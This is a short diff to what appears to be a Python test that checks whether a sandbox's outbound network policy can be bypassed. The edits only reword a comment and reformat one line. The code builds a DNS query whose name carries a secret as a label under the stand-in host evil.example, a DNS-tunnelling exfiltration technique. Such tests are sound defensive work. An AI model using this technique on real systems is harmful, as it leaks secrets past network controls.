@@ -1,7 +1,7 @@
 # class: network
 # rule: outbound_connectivity
 # policy: names.yaml
-# success: where one name may be asked, a question that carries data goes to the resolver over TCP
+# success: where one name is allowed, a question that carries data goes to the resolver over TCP
 # proof: query
 # needs: resolver
 import socket
@@ -9,7 +9,9 @@ import struct
 
 from attack import RESOLVER, SECRET, attempt
 
-NAME = b"".join(bytes([len(part)]) + part for part in (SECRET.encode(), b"evil", b"example")) + b"\0"
+NAME = (
+    b"".join(bytes([len(part)]) + part for part in (SECRET.encode(), b"evil", b"example")) + b"\0"
+)
 
 
 @attempt
